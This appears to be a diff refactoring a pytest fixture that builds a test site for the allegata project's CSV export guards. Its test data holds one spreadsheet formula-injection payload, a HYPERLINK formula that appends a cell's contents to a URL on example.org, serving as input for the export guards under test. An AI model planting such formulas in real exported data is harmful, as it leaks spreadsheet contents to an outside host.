@@ -4,7 +4,6 @@ from __future__ import annotations
 
 import csv
 import io
-import shutil
 from collections.abc import Iterator
 from contextlib import closing
 
@@ -15,24 +14,14 @@ from allegata.budget import Budget
 from allegata.engine import open_engine
 from allegata.model.formats import CSV, CSV_RESULTS
 from allegata.release.build import build
-from allegata.release.site import current
 from allegata.settings import Settings
 from allegata.web import create_app
 from allegata.web.http.csv_tables import SAFE_CSV, guard, safe_choice, write_table
 from allegata.web.http.views import main_rules
-from support import ROOT
+from releases import BASE, HEAD, lay_out
 
-BASE = "https://example.org/"
 FORMULA = '=HYPERLINK("https://example.org/?"&A1)'
-CORPUS = f"""\
-@prefix alg: <https://w3id.org/allegata/ns#> .
-@prefix dcat: <http://www.w3.org/ns/dcat#> .
-@prefix dct: <http://purl.org/dc/terms/> .
-@prefix prov: <http://www.w3.org/ns/prov#> .
-@prefix rdfs: <http://www.w3.org/2000/01/rdf-schema#> .
-@prefix schema: <http://schema.org/> .
-@prefix void: <http://rdfs.org/ns/void#> .
-@prefix xsd: <http://www.w3.org/2001/XMLSchema#> .
+CORPUS = f"""{HEAD}\
 <{BASE}dataset> a dcat:Dataset ; dct:title "Formulas"@en ; dcat:version "1.0" ; dct:issued "2026-01-01"^^xsd:date ;
     void:uriSpace "{BASE}" .
 <{BASE}actor/formula> a prov:Agent, schema:Organization ; rdfs:label '{FORMULA}'@en .
@@ -50,15 +39,9 @@ DOCUMENT = f"<{BASE}x> a <https://w3id.org/allegata/ns#Stance> ."
 
 @pytest.fixture(scope="module")
 def app(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Flask]:
-    root = tmp_path_factory.mktemp("formulas")
-    for name in ("ontology", "shapes"):
-        shutil.copytree(ROOT / name, root / "corpus" / name)
-    data = root / "corpus" / "data"
-    data.mkdir()
-    (data / "corpus.ttl").write_text(CORPUS, "utf-8")
-    build(root / "corpus", root / "site", lambda _step: None)
-    settings = Settings(site=root / "site")
-    release = current(root / "site")
+    folder = tmp_path_factory.mktemp("formulas")
+    release = build(lay_out(folder / "corpus", {"corpus.ttl": CORPUS}), folder / "site", lambda _step: None)
+    settings = Settings(site=folder / "site")
     with closing(open_engine(release.folder, settings)) as engine:
         yield create_app(settings, release, engine)
 
